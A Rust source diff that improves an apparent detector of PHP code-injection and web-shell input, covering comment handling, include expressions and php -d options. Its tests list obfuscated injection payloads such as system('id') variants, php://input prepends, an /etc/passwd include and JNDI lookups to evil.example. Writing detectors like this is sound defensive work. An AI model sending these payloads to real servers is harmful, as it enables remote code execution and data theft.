@@ -38,28 +38,29 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
     if !full {
         return None;
     }
+    let comments = Comments::of(v, shape);
     if shape.has(const { Shape::mask(b"<[{") }) {
         if let Some(hit) = php_tag(v) {
             return Some(hit);
         }
     }
     if shape.has(const { Shape::mask(b"$") }) {
-        if let Some(hit) = php_variables(v) {
+        if let Some(hit) = php_variables(v, &comments) {
             return Some(hit);
         }
     }
-    if shape.has(const { Shape::mask(b";") }) && shape.has(const { Shape::mask(b"'\"$") }) {
-        if let Some(hit) = php_include(v, level) {
+    if shape.has(const { Shape::mask(b";?") }) {
+        if let Some(hit) = php_include(v, &comments, level) {
             return Some(hit);
         }
     }
     if shape.has(const { Shape::mask(b"(") }) {
-        if let Some(hit) = calls(v, level) {
+        if let Some(hit) = calls(v, &comments, level) {
             return Some(hit);
         }
     }
     if shape.has(const { Shape::mask(b".") }) && shape.has(const { Shape::mask(b"'\"") }) {
-        if let Some(hit) = concatenated_function(v, level) {
+        if let Some(hit) = concatenated_function(v, &comments, level) {
             return Some(hit);
         }
     }
@@ -488,7 +489,7 @@ fn php_tag(v: &[u8]) -> Option<Hit> {
 /// PHP's superglobals (`$_GET['x']`, `$GLOBALS`), and a function called through a variable:
 /// `$a(1)`, `$_GET['f']($_GET['x'])`, `@$__[o](4)`, `${'a'}()`, with blanks and comments
 /// before the parenthesis.
-fn php_variables(v: &[u8]) -> Option<Hit> {
+fn php_variables(v: &[u8], c: &Comments) -> Option<Hit> {
     static SUPERGLOBALS: WordTable<12> = WordTable::new(&[
         b"_get",
         b"_post",
@@ -514,7 +515,7 @@ fn php_variables(v: &[u8]) -> Option<Hit> {
         let mut j = at + 1 + name_len;
         let bare = name_len > 0;
         if name_len == 0 {
-            j = skip_blanks_and_comments(v, j);
+            j = skip_blanks_and_comments(v, c, j);
             // `${'a'}` or `${$x}`: a variable named by an expression.
             if v.get(j) != Some(&b'{') {
                 continue;
@@ -529,7 +530,7 @@ fn php_variables(v: &[u8]) -> Option<Hit> {
         // Indexers: `[..]` and `{..}`, then blanks and comments.
         let mut steps = 0;
         loop {
-            let k = skip_blanks_and_comments(v, j);
+            let k = skip_blanks_and_comments(v, c, j);
             if steps == 8 || !matches!(v.get(k), Some(b'[' | b'{')) {
                 break;
             }
@@ -539,7 +540,7 @@ fn php_variables(v: &[u8]) -> Option<Hit> {
             };
             steps += 1;
         }
-        let k = skip_blanks_and_comments(v, j);
+        let k = skip_blanks_and_comments(v, c, j);
         // `Dear $name (customer 1234)`, `$CAD (Canadian dollars)`: a bare name, a blank and an
         // aside is prose; `$OOO0000O0 (16)` and `$a ('id')` are calls.
         let prose = bare && steps == 0 && !called_as_code(&v[j..k.min(v.len())], v.get(k + 1..).unwrap_or(b""));
@@ -571,61 +572,73 @@ fn closing(v: &[u8], open: usize) -> Option<usize> {
     None
 }
 
-/// How far a gap of blanks and comments is followed, either way: each opener of a value
-/// follows its own, so an unbounded one reads the square of a value of unclosed `/*` (the
-/// review: `$/*` repeated over 64 KiB, 1 s).
-const GAP: usize = 256;
+/// A value's comments (`/* */`, and `#` or `//` to the line's end), found once in one pass: a gap
+/// between a name and its parenthesis is followed through them whatever their length (a walk
+/// bounded to 256 bytes let a 300-byte comment hide `system/*...*/('id')`: tester t1), and no
+/// opener reads one again (an unbounded walk from each had read the square of `$/*` repeated:
+/// the review). Quotes are not told apart: a `//` in a URL makes the rest of its line a
+/// comment here, which only ever joins a name to what follows the line.
+pub(crate) struct Comments(Vec<(usize, usize)>);
 
-/// Past blanks and `/* */`, `#` and `//` comments (each to its end or the line's), within
-/// [`GAP`] bytes: the end of the value when the gap goes on past them.
-fn skip_blanks_and_comments(v: &[u8], from: usize) -> usize {
-    let w = &v[..v.len().min(from + GAP)];
+impl Comments {
+    fn of(v: &[u8], shape: Shape) -> Comments {
+        let mut spans = Vec::new();
+        if !shape.has(const { Shape::mask(b"#/") }) {
+            return Comments(spans);
+        }
+        static OPENS: [bool; 256] = byte_set(b"#/");
+        let mut i = 0;
+        while let Some(at) = find_in(v, i, &OPENS) {
+            let end = match (v[at], v.get(at + 1)) {
+                (b'/', Some(b'*')) => find_bytes(v, b"*/", at + 2).map_or(v.len(), |e| e + 2),
+                (b'#', _) | (b'/', Some(b'/')) => find_either(v, at, b'\n', b'\r').unwrap_or(v.len()),
+                _ => {
+                    i = at + 1;
+                    continue;
+                }
+            };
+            spans.push((at, end));
+            i = end.max(at + 1);
+        }
+        Comments(spans)
+    }
+
+    /// The end of the comment that starts at `j`.
+    fn starting_at(&self, j: usize) -> Option<usize> {
+        self.0.binary_search_by_key(&j, |s| s.0).ok().map(|k| self.0[k].1)
+    }
+
+    /// The start of the comment that ends at `j` (exclusive).
+    fn ending_at(&self, j: usize) -> Option<usize> {
+        self.0.binary_search_by_key(&j, |s| s.1).ok().map(|k| self.0[k].0)
+    }
+}
+
+/// Past blanks and comments from `from`.
+fn skip_blanks_and_comments(v: &[u8], c: &Comments, from: usize) -> usize {
     let mut j = from;
     loop {
-        while w.get(j).is_some_and(u8::is_ascii_whitespace) {
+        while v.get(j).is_some_and(u8::is_ascii_whitespace) {
             j += 1;
         }
-        let end = match (w.get(j), w.get(j + 1)) {
-            (None, _) => return v.len(),
-            (Some(b'/'), Some(b'*')) => w[j + 2..].windows(2).position(|p| p == b"*/").map(|p| j + 2 + p + 2),
-            (Some(b'#'), _) | (Some(b'/'), Some(b'/')) => w[j..].iter().position(|&b| b == b'\n').map(|p| j + p + 1),
-            _ => return j,
-        };
-        match end {
-            Some(end) => j = end,
-            None => return v.len(),
+        match c.starting_at(j) {
+            Some(end) if end > j => j = end,
+            _ => return j.min(v.len()),
         }
     }
 }
 
-/// Blanks and comments going back from `j` (exclusive), within [`GAP`] bytes: the index just
-/// past the last byte before them.
-fn skip_blanks_back(v: &[u8], mut j: usize) -> usize {
-    let floor = j.saturating_sub(GAP);
+/// Blanks and comments going back from `j` (exclusive): the index just past the last byte
+/// before them.
+fn skip_blanks_back(v: &[u8], c: &Comments, mut j: usize) -> usize {
     loop {
-        let mut newline = false;
-        while j > floor && v[j - 1].is_ascii_whitespace() {
-            newline |= v[j - 1] == b'\n';
+        while j > 0 && v[j - 1].is_ascii_whitespace() {
             j -= 1;
         }
-        // Past a line break, the line before may end in a `#` or `//` comment.
-        if newline {
-            let line_start = v[floor..j].iter().rposition(|&b| b == b'\n').map_or(floor, |p| floor + p + 1);
-            let line = &v[line_start..j];
-            let comment = line.iter().position(|&b| b == b'#').or_else(|| line.windows(2).position(|w| w == b"//"));
-            if let Some(c) = comment {
-                j = line_start + c;
-                continue;
-            }
+        match c.ending_at(j) {
+            Some(start) if start < j => j = start,
+            _ => return j,
         }
-        if j >= floor + 2 && v[j - 1] == b'/' && v[j - 2] == b'*' {
-            match v[floor..j - 2].windows(2).rposition(|w| w == b"/*") {
-                Some(p) => j = floor + p,
-                None => return j,
-            }
-            continue;
-        }
-        return j;
     }
 }
 
@@ -740,12 +753,13 @@ fn php_function(w: &[u8]) -> bool {
 /// bracketed name or variable (`(system)('id')`, `($y)('id')`, `(['system'])[0]('id')`);
 /// Ruby's `Process.spawn(`; a JavaScript loop that never ends (`while(!0)`, `for(;;)`), which
 /// blocks Node.js's one thread.
-fn calls(v: &[u8], level: u8) -> Option<Hit> {
+fn calls(v: &[u8], c: &Comments, level: u8) -> Option<Hit> {
     let mut i = 0;
     while let Some(open) = find_either(v, i, b'(', b'(') {
         i = open + 1;
-        let before = skip_blanks_back(v, open);
-        if before == 0 || stack_frame(&v[open..]) || link(&v[open + 1..]) {
+        let before = skip_blanks_back(v, c, open);
+        let markdown = open > 0 && v[open - 1] == b']' && link(&v[open + 1..]);
+        if before == 0 || stack_frame(&v[open..]) || markdown {
             continue;
         }
         let code = called_as_code(&v[before..open], &v[open + 1..]);
@@ -768,14 +782,19 @@ fn calls(v: &[u8], level: u8) -> Option<Hit> {
             // A method of another language's object (`subprocess.Popen(`, `os.getenv(`,
             // `/re/.exec(`): PHP calls methods with `->`. A manual page's section (`system(3)`,
             // `chmod(1)`) is a reference in text.
-            let method = start > 0 && v[start - 1] == b'.';
-            if !code || plural(v, open) || method || man_section(&v[open + 1..]) {
+            // A `.` after a quote, a blank or a `$variable` is PHP's concatenation, not a method
+            // (tester t1: `x'.system('id').'` ran).
+            let method = start > 1
+                && v[start - 1] == b'.'
+                && (is_word(v[start - 2]) || v[start - 2] == b')')
+                && !receiver_is_variable(v, start - 1);
+            if plural(v, open) || method || man_section(&v[open + 1..]) {
                 continue;
             }
-            // An English word as a function: not named bare with nothing to run (`exec()` is
-            // named in prose too; `FILE\r\n()` is no prose).
+            // An English word as a function: written as code, and not named bare with nothing to
+            // run (`exec()` is named in prose too; `FILE\r\n()` is no prose).
             let named_only = before == open && v.get(open + 1) == Some(&b')');
-            if PHP_PLAIN_FUNCTIONS.contains(word) && !named_only {
+            if PHP_PLAIN_FUNCTIONS.contains(word) && code && !named_only {
                 return hit(1, start, open + 1, level);
             }
             // A name with a prefix glued on (`FOOcall_user_func()`): any suffix that is one, but
@@ -791,7 +810,7 @@ fn calls(v: &[u8], level: u8) -> Option<Hit> {
         // A chain of brackets before a parenthesis (`[ system ] [ 0 ] ( ls )`) is code however
         // it is spaced.
         if matches!(last, b')' | b']' | b'}') {
-            if let Some((s, groups)) = called_group(v, before) {
+            if let Some((s, groups)) = called_group(v, c, before) {
                 if code || groups >= 2 {
                     return hit(1, s, open + 1, level);
                 }
@@ -802,7 +821,7 @@ fn calls(v: &[u8], level: u8) -> Option<Hit> {
             continue;
         }
         if matches!(last, b'"' | b'\'') {
-            if let Some((s, name)) = concatenated_name(v, before) {
+            if let Some((s, name)) = concatenated_name(v, c, before) {
                 let name = name.trim_ascii();
                 if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
                     return hit(1, s, open + 1, level);
@@ -817,12 +836,12 @@ fn calls(v: &[u8], level: u8) -> Option<Hit> {
 /// PHP's `include` and `require` (and `_once`), which take no parentheses, as a statement: the
 /// word, a quoted path or a variable, and `;` (`include 'uploads/x.jpg';`,
 /// `require_once $_GET['p'];`); `please include 'urgent' in the subject` is prose.
-fn php_include(v: &[u8], level: u8) -> Option<Hit> {
+fn php_include(v: &[u8], c: &Comments, level: u8) -> Option<Hit> {
     for keyword in [&b"include"[..], b"require"] {
         let mut i = 0;
         while let Some(at) = find_ci(v, keyword, i) {
             i = at + 1;
-            if let Some(h) = php_include_at(v, at, level) {
+            if let Some(h) = php_include_at(v, c, at, level) {
                 return Some(h);
             }
         }
@@ -830,7 +849,7 @@ fn php_include(v: &[u8], level: u8) -> Option<Hit> {
     None
 }
 
-fn php_include_at(v: &[u8], at: usize, level: u8) -> Option<Hit> {
+fn php_include_at(v: &[u8], c: &Comments, at: usize, level: u8) -> Option<Hit> {
     {
         let word_len = v[at..].iter().take_while(|&&b| is_word(b)).count();
         let word = &v[at..at + word_len];
@@ -840,9 +859,13 @@ fn php_include_at(v: &[u8], at: usize, level: u8) -> Option<Hit> {
         if !known || (at > 0 && (is_word(v[at - 1]) || v[at - 1] == b'.')) {
             return None;
         }
-        let rest = skip_blanks_and_comments(v, at + word_len);
+        let rest = skip_blanks_and_comments(v, c, at + word_len);
         let operand_end = match v.get(rest) {
             Some(&q @ (b'\'' | b'"')) => v[rest + 1..].iter().take(256).position(|&b| b == q).map(|p| rest + 1 + p + 1),
+            // `__DIR__ . '/x'`, `dirname(__FILE__) . ...`, `(...)`: an expression follows.
+            Some(b) if is_word(*b) || *b == b'(' => {
+                Some(rest + v[rest..].iter().take(64).take_while(|&&b| is_word(b)).count())
+            }
             Some(b'$') => Some(
                 rest + 1
                     + v[rest + 1..]
@@ -854,9 +877,21 @@ fn php_include_at(v: &[u8], at: usize, level: u8) -> Option<Hit> {
             _ => None,
         };
         let end = operand_end?;
-        let after = skip_blanks_and_comments(v, end);
-        if v.get(after) == Some(&b';') || (after >= v.len() && v.get(rest) == Some(&b'$')) {
+        let after = skip_blanks_and_comments(v, c, end);
+        // A bare word then `;` is prose (`please include urgent; thanks`).
+        let word_operand = v.get(rest).is_some_and(|&b| is_word(b) || b == b'(');
+        if !word_operand && (v.get(after) == Some(&b';') || (after >= v.len() && v.get(rest) == Some(&b'$'))) {
             return hit(1, at, end, level);
+        }
+        // An expression: `'a'.'b'`, `$d.'/x'`, `urldecode(...)`, up to the statement's `;` or
+        // `?>` on the same line (tester t1).
+        if matches!(v.get(after), Some(b'.' | b'(' | b'[')) {
+            let line_end =
+                v[after..].iter().take(256).position(|&b| b == b'\n').map_or(v.len().min(after + 256), |p| after + p);
+            let tail = &v[after..line_end];
+            if tail.contains(&b';') || tail.windows(2).any(|w| w == b"?>") {
+                return hit(1, at, end, level);
+            }
         }
     }
     None
@@ -864,11 +899,11 @@ fn php_include_at(v: &[u8], at: usize, level: u8) -> Option<Hit> {
 
 /// A PHP function's name spelled by joining quoted pieces (`'sys' . 'tem'`), wherever it is
 /// called from (`define('x', 'sys'.'tem'); (x)('id')`): no text joins quoted pieces with dots.
-fn concatenated_function(v: &[u8], level: u8) -> Option<Hit> {
+fn concatenated_function(v: &[u8], c: &Comments, level: u8) -> Option<Hit> {
     let mut i = 0;
     while let Some(dot) = find_either(v, i, b'.', b'.') {
         i = dot + 1;
-        let before = skip_blanks_back(v, dot);
+        let before = skip_blanks_back(v, c, dot);
         if before == 0 || !matches!(v[before - 1], b'\'' | b'"') {
             continue;
         }
@@ -879,16 +914,16 @@ fn concatenated_function(v: &[u8], level: u8) -> Option<Hit> {
             if v.get(at) != Some(&b'.') {
                 break;
             }
-            let q = skip_blanks_and_comments(v, at + 1);
+            let q = skip_blanks_and_comments(v, c, at + 1);
             let Some(&quote) = v.get(q).filter(|b| matches!(b, b'\'' | b'"')) else { break };
             let Some(close) = v[q + 1..].iter().take(32).position(|&b| b == quote) else { break };
             end = q + 1 + close + 1;
-            at = skip_blanks_and_comments(v, end);
+            at = skip_blanks_and_comments(v, c, end);
         }
         if end == before {
             continue;
         }
-        if let Some((start, name)) = concatenated_name(v, end) {
+        if let Some((start, name)) = concatenated_name(v, c, end) {
             let name = name.trim_ascii();
             if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
                 return hit(1, start, end, level);
@@ -910,6 +945,11 @@ fn called_as_code(gap: &[u8], args: &[u8]) -> bool {
         return true;
     }
     let args = args.trim_ascii_start();
+    // A call as the argument: `system (chr(105).chr(100))`, `system (hex2bin('6964'))`.
+    let word = args.iter().take_while(|&&b| is_word(b)).count();
+    if word > 0 && args.get(word) == Some(&b'(') {
+        return true;
+    }
     match args.first() {
         Some(b'\'' | b'"' | b'$' | b'`' | b')') => true,
         Some(b) if b.is_ascii_digit() => {
@@ -918,6 +958,12 @@ fn called_as_code(gap: &[u8], args: &[u8]) -> bool {
         }
         _ => false,
     }
+}
+
+/// Whether the name before the `.` at `dot` is a PHP variable (`$x.system(`).
+fn receiver_is_variable(v: &[u8], dot: usize) -> bool {
+    let name_at = v[..dot].iter().rposition(|&b| !is_word(b)).map_or(0, |p| p + 1);
+    name_at > 0 && v[name_at - 1] == b'$'
 }
 
 /// `(3)`, `(1p)`, `(8)`: a manual page's section after a name.
@@ -938,7 +984,7 @@ fn plural(v: &[u8], open: usize) -> bool {
 
 /// Quoted strings joined by PHP's `.` ending just before `end`: where they start and the name
 /// they spell (`"sys"."tem"` is `system`), at most 32 bytes.
-fn concatenated_name(v: &[u8], end: usize) -> Option<(usize, Vec<u8>)> {
+fn concatenated_name(v: &[u8], c: &Comments, end: usize) -> Option<(usize, Vec<u8>)> {
     let mut parts: Vec<&[u8]> = Vec::new();
     let mut j = end;
     let mut start = end;
@@ -950,9 +996,9 @@ fn concatenated_name(v: &[u8], end: usize) -> Option<(usize, Vec<u8>)> {
         let open = v[..j - 1].iter().rposition(|&b| b == q)?;
         parts.push(&v[open + 1..j - 1]);
         start = open;
-        let k = skip_blanks_back(v, open);
+        let k = skip_blanks_back(v, c, open);
         if k > 0 && v[k - 1] == b'.' {
-            j = skip_blanks_back(v, k - 1);
+            j = skip_blanks_back(v, c, k - 1);
             if parts.len() >= 8 {
                 break;
             }
@@ -974,7 +1020,7 @@ fn concatenated_name(v: &[u8], end: usize) -> Option<(usize, Vec<u8>)> {
 /// A parenthesised or indexed expression just before a call, ending before `end`
 /// (`(system)`, `($y)`, `(['system'])[0]`, `(/* c */ system)`): where it starts, when what it
 /// names is a variable or a PHP function, bare or quoted.
-fn called_group(v: &[u8], end: usize) -> Option<(usize, usize)> {
+fn called_group(v: &[u8], c: &Comments, end: usize) -> Option<(usize, usize)> {
     let mut j = end;
     let mut start = end;
     let mut groups = 0;
@@ -986,11 +1032,11 @@ fn called_group(v: &[u8], end: usize) -> Option<(usize, usize)> {
             b'}' => b'{',
             _ => break,
         };
-        let c = v[close];
+        let shut = v[close];
         let mut depth = 0;
         let mut open = None;
         for k in (close.saturating_sub(128)..=close).rev() {
-            if v[k] == c {
+            if v[k] == shut {
                 depth += 1;
             } else if v[k] == o {
                 depth -= 1;
@@ -1002,7 +1048,7 @@ fn called_group(v: &[u8], end: usize) -> Option<(usize, usize)> {
         }
         start = open?;
         groups += 1;
-        j = skip_blanks_back(v, start);
+        j = skip_blanks_back(v, c, start);
     }
     let group = &v[start..end];
     // Words one after another inside a bracket (`[upload a file]`, `(in the system)`) are prose.
@@ -1236,12 +1282,18 @@ fn php_directive(v: &[u8], shape: Shape, level: u8) -> Option<Hit> {
     let mut i = 0;
     while let Some(d) = find_either(v, i, b'd', b'D') {
         i = d + 1;
-        let dash =
-            d > 0 && matches!(v[d - 1], b'-' | 0xad) && (d == 1 || v[d - 2].is_ascii_whitespace() || v[d - 2] == 0xc2);
-        if !dash {
+        // The option, alone or in a cluster (`-nd`), or long (`--define`), after a blank.
+        let letters = v[..d].iter().rev().take(8).take_while(|b| b.is_ascii_lowercase()).count();
+        let Some(dash) = (d - letters).checked_sub(1) else { continue };
+        let opens = matches!(v[dash], b'-' | 0xad)
+            && (dash == 0 || v[dash - 1].is_ascii_whitespace() || matches!(v[dash - 1], b'-' | 0xc2));
+        let long = starts_with_ci(&v[d..], b"define");
+        if !opens || (letters > 0 && dash > 0 && v[dash - 1] == b'-' && !long) {
             continue;
         }
-        let at = d + 1 + v[d + 1..].iter().take(8).take_while(|b| b.is_ascii_whitespace()).count();
+        let after = if long { d + 6 } else { d + 1 };
+        let after = after + v.get(after).map_or(0, |&b| usize::from(b == b'='));
+        let at = after + v[after..].iter().take(8).take_while(|b| b.is_ascii_whitespace()).count();
         if let Some(h) = directive(at).filter(|_| at < v.len()) {
             return Some(h);
         }
@@ -1420,10 +1472,21 @@ fn twig_callable(inner: &[u8]) -> bool {
         };
         let args = rest[filter.len()..].trim_ascii_start();
         let Some(args) = args.strip_prefix(b"(") else { continue };
+        // Past parentheses around it; quoted pieces joined by Twig's `~` (`'sys'~'tem'`).
         let args = args.trim_ascii_start();
-        let Some(&q) = args.first().filter(|b| matches!(b, b'\'' | b'"')) else { continue };
-        let name = &args[1..args[1..].iter().position(|&b| b == q).map_or(1, |p| p + 1)];
-        if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
+        let args = &args[args.iter().take_while(|&&b| b == b'(' || b.is_ascii_whitespace()).count()..];
+        let mut name = Vec::new();
+        let mut rest = args;
+        while let Some(&q) = rest.first().filter(|b| matches!(b, b'\'' | b'"')) {
+            let Some(close) = rest[1..].iter().take(32).position(|&b| b == q) else { break };
+            name.extend_from_slice(&rest[1..1 + close]);
+            rest = rest[close + 2..].trim_ascii_start();
+            match rest.strip_prefix(b"~") {
+                Some(more) => rest = more.trim_ascii_start(),
+                None => break,
+            }
+        }
+        if !name.is_empty() && (php_function(&name) || PHP_PLAIN_FUNCTIONS.contains(&name)) {
             return true;
         }
     }
@@ -1517,6 +1580,21 @@ mod tests {
             "process['mainModule']",
             "process[req.query.a]",
             "process[mainModule",
+            // Tester t1's.
+            "x'.system('id').'",
+            "$a='x'.system('id');",
+            "$x.system('id');",
+            "system( /*x*/ 'id');",
+            "system (chr(105).chr(100));",
+            "passthru (x)",
+            "('system') (chr(105))",
+            "-nd auto_prepend_file=php://input",
+            "--define auto_prepend_file=php://input",
+            "include 'a'.'b';",
+            "include __DIR__.'/uploads/x.jpg';",
+            "include urldecode('%2fetc%2fpasswd') ?>",
+            "{{['id']|filter('sys'~'tem')}}",
+            "{{['id']|filter((('system')))}}",
             // Tester s1's.
             "${j${foo:-n}di:ldap://evil.example/a}",
             "${jndi${nagli:-:}ldap://evil.example/a}",
@@ -1638,6 +1716,8 @@ mod tests {
             "Ticket #{12-34}",
             "java.nio.charset.StandardCharsets.UTF_8",
             "Hello ${user.name}",
+            "please include urgent; thanks",
+            "we run it in our --detached mode",
         ] {
             assert!(!found(text, 1), "{text}");
         }
@@ -1685,6 +1765,19 @@ mod tests {
         }
         for name in ["report.pdf", "photo.jpg", "php.txt", "sess_short", "a.json", "notes.php.txt"] {
             assert!(upload_name(name.as_bytes(), 1).is_none(), "{name}");
+        }
+    }
+
+    #[test]
+    fn long_gaps_hide_no_call() {
+        // Tester t1: a gap walk bounded to 256 bytes let a longer comment or run of blanks hide
+        // the call.
+        for v in [
+            format!("system/*{}*/('id')", "x".repeat(300)),
+            format!("$f{}('id')", " ".repeat(300)),
+            format!("system#{}\n('id')", "x".repeat(3000)),
+        ] {
+            assert!(found(&v, 1), "{}...", &v[..20]);
         }
     }
 
